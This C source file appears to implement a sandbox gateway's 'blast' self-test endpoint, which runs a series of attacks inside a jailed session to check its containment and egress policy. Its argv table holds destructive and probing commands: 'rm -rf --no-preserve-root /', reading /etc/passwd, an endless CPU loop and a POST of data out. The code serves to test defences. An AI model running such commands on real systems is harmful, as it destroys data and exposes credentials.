/* The post's exec ended before the proxy's decision arrived: waited for. */
static void on_egress_wait(lws_sorted_usec_list_t *sul)
{
	next_step(lws_container_of(sul, struct blast_run, sul_wait));
}

/* A blast session's exec ended (res stolen: the exec result JSON), or
 * could not run (res NULL, error). */
static void exec_done(struct gw_session *s, json_t *res, const char *error)
{
	struct blast_run *b = s->blast;
	if (!b || b->finished) {
		json_decref(res);
		return;
	}
	if (!res)
		res = json_pack("{s:b, s:s}", "ok", 0, "error", error ? error : "no result");
	b->results[b->step] = res;
	if (b->step == A_EGRESS && !b->egress) {
		lws_sul_schedule(b->gw->ctx, 0, &b->sul_wait, on_egress_wait,
				 (lws_usec_t)DG_BLAST_EGRESS_WAIT_MS * 1000);
		return;
	}
	next_step(b);
}

static void step_start(struct blast_run *b)
{
	/* The URL as the proxy takes it: canonical, so without port 80. */
	char url[DG_BLAST_HOST_MAX + 32];
	size_t hl = strlen(b->target);
	if (hl > 3 && strcmp(b->target + hl - 3, ":80") == 0)
		hl -= 3;
	snprintf(url, sizeof(url), "http://%.*s/blast", (int)hl, b->target);
	const char *argv[N_STEPS][5] = {
		{"sh", "-c", write_sh, NULL},
		{"cat", "/etc/passwd", NULL},
		{"python3", "-c", post_py, url, NULL},
		{"sh", "-c", "while :; do :; done", NULL},
		{"rm", "-rf", "--no-preserve-root", "/", NULL},
		{"sh", "-c", after_sh, NULL},
	};
	size_t argc = 0;
	while (argv[b->step][argc])
		argc++;
	if (b->step == A_RM)
		b->host_bin_before = count_dir("/usr/bin");
	struct dg_err err = {{0}};
	int n = dg_spawner_exec(&b->gw->spawner, b->s->id, argv[b->step], argc, "", 0,
				(long long)b->wall_s * 1000, &err);
	if (n < 0) {
		exec_done(b->s, NULL, err.msg);
		return;
	}
	b->s->exec_req = n;
}

/* The session's creation: answered 201 when its desktop is ready. */
static void creator_sink(struct conn *c, int status, json_t *msg)
{
	struct blast_run *b = c->sink_ctx;
	if (b->finished || status == 0) {
		json_decref(msg);
		return;
	}
	if (status != 201 || !b->s) {
		const char *why = json_string_value(json_object_get(json_object_get(msg, "error"),
								    "message"));
		char reason[DG_ERR_MAX + 64];
		snprintf(reason, sizeof(reason), "the jail did not start: %s", why ? why : "?");
		json_decref(msg);
		b->s = NULL; /* ended already */
		return finish(b, reason);
	}
	json_decref(msg); /* its session token goes nowhere */
	dg_gw_session_observer_attach(b->s, &b->watcher);
	b->step = 0;
	step_start(b);
}

/* The session's events: the egress proxy's decisions, its end. */
static void watcher_sink(struct conn *c, int status, json_t *msg)
{
	(void)status;
	struct blast_run *b = c->sink_ctx;
	const char *type = json_string_value(json_object_get(msg, "type"));
	const char *layer = json_string_value(json_object_get(msg, "layer"));
	if (!b->finished && type && strcmp(type, "decision") == 0 && layer &&
	    strcmp(layer, "egress") == 0 && b->step == A_EGRESS && !b->egress) {
		b->egress = json_incref(msg);
		if (b->results[A_EGRESS]) {
			lws_sul_cancel(&b->sul_wait);
			json_decref(msg);
			return next_step(b);
		}
	} else if (!b->finished && type && strcmp(type, "ended") == 0) {
		const char *why = json_string_value(json_object_get(msg, "reason"));
		char reason[DG_ERR_MAX + 64];
		snprintf(reason, sizeof(reason), "the jail ended during the run: %s", why ? why : "?");
		json_decref(msg);
		if (b->s) {
			b->s->blast = NULL;
			b->s->blast_exec = NULL;
		}
		b->s = NULL;
		return finish(b, reason);
	}
	json_decref(msg);
}

/* ---- the endpoint ------------------------------------------------------------ */

static void own_policy_free(struct dg_gw_own_policy *own)
{
	dg_policy_free(&own->policy);
	free(own->text);
	memset(own, 0, sizeof(*own));
}

/* Retry-After when one more run would pass DG_BLAST_PER_MINUTE in 60 s,
 * else 0. */
static long per_minute_wait(long long now)
{
	if (n_starts < DG_BLAST_PER_MINUTE)
		return 0;
	long long oldest = starts[n_starts % DG_BLAST_PER_MINUTE];
	long long left = oldest + 60000 - now;
	return left > 0 ? (long)((left + 999) / 1000) : 0;
}

int dg_gw_blast_http(struct gw *gw, struct conn *c, const char *raw, size_t raw_len)
{
	if (!dg_auth_may(&c->who, DG_PERM_WATCH, NULL))
		return plain_error(c, 403, "forbidden", "a blast run needs a viewer or admin token");
	if (c->method != 'P')
		return plain_error(c, 405, "method_not_allowed", "POST");
	if (c->body_too_big || raw_len > DG_BLAST_BODY_MAX)
		return bad_field(c, "body", "the body is over %d bytes", DG_BLAST_BODY_MAX);
	json_error_t jerr;
	json_t *body = raw_len ? json_loadb(raw, raw_len, JSON_REJECT_DUPLICATES, &jerr) : json_object();
	if (!json_is_object(body)) {
		json_decref(body);
		return bad_field(c, "body", "the body must be a JSON object {policy?, draft?}");
	}
	int reply = 0;
	const char *key;
	json_t *v;
	json_object_foreach(body, key, v)
	{
		if (strcmp(key, "policy") && strcmp(key, "draft")) {
			char k[DG_SHOW_BUF];
			dg_show_str(key, DG_SHOW_MAX, true, k, sizeof(k));
			json_decref(body);
			return bad_field(c, "body", "unknown field \"%s\" (policy, draft)", k);
		}
	}
	const char *pname = NULL;
	v = json_object_get(body, "policy");
	if (v) {
		pname = json_string_value(v);
		if (!pname || (strcmp(pname, "default") && !dg_config_policy_path(&gw->cfg, pname))) {
			json_decref(body);
			return bad_field(c, "policy", "policy must name one of the gateway's policies "
					 "(GET /v1/policies)");
		}
		if (strcmp(pname, "default") == 0)
			pname = NULL;
	}
	struct blast_draft d;
	memset(&d, 0, sizeof(d));
	json_t *dj = json_object_get(body, "draft");
	if (dj && draft_parse(c, dj, &d, &reply) != 0) {
		json_decref(body);
		return reply;
	}
	json_decref(body);
	/* The session's policy: the base's own, or the draft over it. */
	struct dg_gw_own_policy own;
	memset(&own, 0, sizeof(own));
	struct dg_err perr = {{0}};
	const char *path = pname ? dg_config_policy_path(&gw->cfg, pname) : NULL;
	char *btext = NULL;
	size_t blen = 0;
	int pr = path ? dg_gw_policy_load(path, &own.policy, &btext, &blen, &perr)
		      : (dg_policy_copy(&own.policy, &gw->policy),
			 (btext = strdup(gw->policy_text ? gw->policy_text : DG_GW_BUILTIN_POLICY_TEXT))
				 ? (blen = strlen(btext), 0) : -ENOMEM);
	if (pr != 0) {
		dg_policy_free(&own.policy);
		free(btext);
		OPENSSL_cleanse(&d, sizeof(d));
		return plain_error(c, 500, "internal", pr == -ENOMEM ? "no memory" : perr.msg);
	}
	if (d.given) {
		dg_policy_free(&own.policy);
		const char *field;
		char why[DG_ERR_MAX];
		int r = draft_policy(btext, blen, &d, &own, &field, why, sizeof(why));
		free(btext);
		if (r != 0) {
			OPENSSL_cleanse(&d, sizeof(d));
			return bad_field(c, field, "%s", why);
		}
	} else {
		own.text = btext;
		own.len = blen;
	}
	/* The limits, once the request is known to be well formed (a bad one
	 * is 400 whatever they say). */
	long long now = dg_now_ms();
	struct blast_run *b = NULL;
	for (int i = 0; i < DG_BLAST_RUNS_MAX; i++) {
		if (runs[i].used && strcmp(runs[i].who, c->who.name) == 0) {
			OPENSSL_cleanse(&d, sizeof(d));
			own_policy_free(&own);
			return too_many(c, DG_BLAST_BUSY_RETRY_S, "a blast run of %s is going on: one "
					"at a time per token", c->who.name);
		}
		if (!runs[i].used && !b)
			b = &runs[i];
	}
	long wait_s = per_minute_wait(now);
	if (wait_s || !b) {
		OPENSSL_cleanse(&d, sizeof(d));
		own_policy_free(&own);
		if (wait_s)
			return too_many(c, wait_s, "%d blast runs started in the last minute, the "
					"gateway's limit", DG_BLAST_PER_MINUTE);
		return too_many(c, DG_BLAST_BUSY_RETRY_S, "%d blast runs are going on, the gateway's "
				"limit", DG_BLAST_RUNS_MAX);
	}
	memset(b, 0, sizeof(*b));
	b->used = true;
	b->slot = (int)(b - runs);
	b->gw = gw;
	b->http = c;
	b->d = d;
	OPENSSL_cleanse(&d, sizeof(d));
	b->t0 = now;
	snprintf(b->who, sizeof(b->who), "%s", c->who.name);
	snprintf(b->base, sizeof(b->base), "%s", pname ? pname : "default");
	const struct dg_limits *lim = &own.policy.limits;
	b->exec_seconds = lim->exec_seconds;
	b->scratch_mb = lim->scratch_mb;
	b->cpus = lim->cpus;
	b->wall_s = lim->exec_seconds < DG_BLAST_WALL_MAX_S ? lim->exec_seconds : DG_BLAST_WALL_MAX_S;
	/* The post goes to the draft's host, else to the policy's first
	 * allowed host that is one name, else somewhere no policy of the
	 * gateway's was written for. */
	json_t *allow = dg_policy_egress_json(&own.policy);
	const char *first = json_string_value(json_array_get(allow, 0));
	snprintf(b->target, sizeof(b->target), "%s",
		 b->d.host[0] ? b->d.host : first && strncmp(first, "*.", 2) && !b->d.egress_off
						? first : DG_BLAST_DEFAULT_TARGET);
	json_decref(allow);
	if (b->d.secret_len) {
		snprintf(b->secret_var, sizeof(b->secret_var), DG_BLAST_SECRET_VAR "%d", b->slot);
		setenv(b->secret_var, b->d.secret, 1);
	}
	dg_gw_sink_conn(&b->creator, CONN_WATCH, &c->who, creator_sink, b);
	dg_gw_sink_conn(&b->watcher, CONN_WATCH, &c->who, watcher_sink, b);
	json_t *opts = json_pack("{s:s, s:{s:i, s:i}}", "profile", "xterm", "size", "width",
				 DG_DESKTOP_WIDTH_MIN, "height", DG_DESKTOP_HEIGHT_MIN);
	char err[DG_ERR_MAX];
	int status = 500;
	struct gw_session *s = NULL;
	int r = opts ? dg_gw_session_create_own(gw, &b->creator, opts, NULL, &own, &s, err,
						sizeof(err), &status)
		     : (snprintf(err, sizeof(err), "no memory"), -1);
	json_decref(opts);
	own_policy_free(&own);
	if (r != 0) {
		if (b->secret_var[0])
			unsetenv(b->secret_var);
		OPENSSL_cleanse(&b->d, sizeof(b->d));
		memset(b, 0, sizeof(*b));
		if (status == 429)
			return too_many(c, DG_BLAST_BUSY_RETRY_S, "%s", err);
		return plain_error(c, status, status == 503 ? "unavailable" : "internal", err);
	}
	starts[n_starts++ % DG_BLAST_PER_MINUTE] = now;
	b->s = s;
	s->blast = b;
	s->blast_exec = exec_done;
	c->blast = b;
	c->waiting = true;
	lws_sul_schedule(gw->ctx, 0, &b->sul_deadline, on_deadline,
			 (lws_usec_t)DG_BLAST_RUN_MAX_S * 1000000);
	return 0;
}

void dg_gw_blast_http_closed(struct conn *c)
{
	struct blast_run *b = c->blast;
	if (b && b->http == c)
		b->http = NULL; /* the run goes on to its end, answered to nobody */
	c->blast = NULL;
}
